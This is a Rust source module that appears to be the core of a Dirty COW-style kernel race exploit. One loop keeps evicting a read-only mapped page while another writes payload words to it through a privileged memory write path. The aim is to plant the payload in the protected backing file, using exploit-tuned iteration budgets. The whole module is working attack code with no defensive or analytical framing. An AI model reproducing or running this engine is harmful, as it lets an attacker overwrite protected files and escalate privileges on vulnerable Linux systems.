//! The racing engine.
//!
//! Two free-running loops contend over the same kernel-managed page: a
//! pressure inducer that keeps discarding the page so the kernel must
//! re-resolve it from backing storage, and a writer that keeps depositing
//! payload words at the mapped address through a privileged write path.
//! Nothing synchronizes them. Serializing the loops would close the very
//! window being raced, so the only tuning knob is the iteration budget.

pub mod poke;
pub mod pressure;
pub mod selfmem;

use crate::logging as log;
use crate::mapping::RoMap;
use crate::util::{word_chunks, WORD};

#[derive(thiserror::Error, Debug)]
pub enum RaceError {
    #[error("Payload Error: payload is empty, nothing to race")]
    EmptyPayload,

    #[error("Payload Error: offset {offset} + {len} payload bytes exceeds the {map_len} byte mapping")]
    PayloadOutOfRange {
        offset: usize,
        len: usize,
        map_len: usize,
    },

    #[error("Stdio Error")]
    StdIOError(#[from] std::io::Error),

    #[error("Kernel Error: {0}")]
    Kernel(#[from] nix::errno::Errno),

    #[error("Victim Error: {0}")]
    VictimError(String),
}

/// Iteration budgets for one run.
///
/// The race window's width depends on kernel version and hardware, so none
/// of these are portable constants; the defaults are the empirically tuned
/// values of the original exploit.
#[derive(Debug, Clone)]
pub struct RaceBudget {
    /// Eviction advisories issued by the pressure inducer.
    pub pressure_iters: u64,
    /// Full passes the writer makes over the chunk list. Total poke
    /// volume is `writer_passes * chunks * retries_per_chunk`.
    pub writer_passes: u64,
    /// Poke attempts per word-sized payload chunk within one pass.
    pub retries_per_chunk: u64,
    /// Minimum length in bytes of the advised window at the mapped base.
    /// Grown automatically to cover the raced byte range.
    pub advisory_window: usize,
}

impl Default for RaceBudget {
    fn default() -> Self {
        RaceBudget {
            pressure_iters: 200_000_000,
            writer_passes: 10_000,
            retries_per_chunk: 10_000,
            advisory_window: 256,
        }
    }
}

/// What the pressure loop got through. Advisory failures are retried by
/// the next iteration, the count is informational only.
#[derive(Debug, Default, Clone)]
pub struct PressureReport {
    pub iterations: u64,
    pub advised: u64,
}

/// What the writer loop got through. A failed poke says nothing about
/// overall success, it is merely counted.
#[derive(Debug, Default, Clone)]
pub struct WriterReport {
    pub attempts: u64,
    pub failures: u64,
}

#[derive(Debug)]
pub struct RaceReport {
    pub writer: WriterReport,
    /// `None` when the pressure inducer ran inside the victim process,
    /// where its counters are unobservable.
    pub pressure: Option<PressureReport>,
}

/// Where the pressure inducer has to run for a given write strategy.
pub enum PressureHost {
    /// The engine spawns the pressure thread itself.
    Engine,
    /// The strategy's victim process already runs one; the engine must not.
    Victim,
}

/// How payload words reach the contested page.
///
/// `poke` is a single attempt through a raw write primitive that addresses
/// memory by virtual address, sidestepping the mapping's protection bits.
/// Individual poke errors are absorbed by the engine.
pub trait WriteStrategy {
    fn name(&self) -> &'static str;

    /// Establish the write path. Called once, before any poke, with the
    /// advisory window the pressure inducer will hammer.
    fn begin(
        &mut self,
        map: &RoMap,
        window: usize,
        budget: &RaceBudget,
    ) -> Result<PressureHost, RaceError>;

    /// One write attempt of a full word at a virtual address.
    fn poke(&mut self, addr: usize, bytes: &[u8; WORD]) -> std::io::Result<()>;

    /// Tear down the write path (reap the victim, drop descriptors).
    fn finish(&mut self) -> Result<(), RaceError>;
}

/// Race `payload` into `map` at `offset` until the budgets drain.
///
/// Returns once both loops have exhausted their iteration counts; whether
/// any write actually reached the backing file is only knowable through
/// [`crate::stage::verify`] afterwards.
pub fn run(
    map: &RoMap,
    offset: usize,
    payload: &[u8],
    budget: &RaceBudget,
    strategy: &mut dyn WriteStrategy,
) -> Result<RaceReport, RaceError> {
    if payload.is_empty() {
        return Err(RaceError::EmptyPayload);
    }

    let out_of_range = RaceError::PayloadOutOfRange {
        offset,
        len: payload.len(),
        map_len: map.len(),
    };
    let end = match offset.checked_add(payload.len()) {
        Some(end) if end <= map.len() => end,
        _ => return Err(out_of_range),
    };

    // pad the tail chunk from the bytes that follow the payload
    let fill = &map[end..map.len().min(end + WORD)];
    let chunks = word_chunks(payload, fill);

    let window = budget.advisory_window.max(end).min(map.len());
    let host = strategy.begin(map, window, budget)?;

    let pressure = match host {
        PressureHost::Engine => Some(pressure::spawn(map.base(), window, budget.pressure_iters)),
        PressureHost::Victim => None,
    };

    log::info(format!(
        "racing {} chunks via {}, {} passes x {} retries, {} eviction advisories",
        chunks.len(),
        strategy.name(),
        budget.writer_passes,
        budget.retries_per_chunk,
        budget.pressure_iters
    ));

    // the outer pass keeps the writer contending for the whole run instead
    // of draining one burst per chunk while the pressure loop spins alone
    let mut writer = WriterReport::default();
    for _ in 0..budget.writer_passes {
        for chunk in &chunks {
            let addr = map.base() + offset + chunk.offset;
            for _ in 0..budget.retries_per_chunk {
                writer.attempts += 1;
                if strategy.poke(addr, &chunk.bytes).is_err() {
                    writer.failures += 1;
                }
            }
        }
    }

    let pressure = pressure.and_then(|handle| handle.join().ok());
    strategy.finish()?;

    log::debug(format!(
        "drained: {} poke attempts, {} failed",
        writer.attempts, writer.failures
    ));

    Ok(RaceReport { writer, pressure })
}
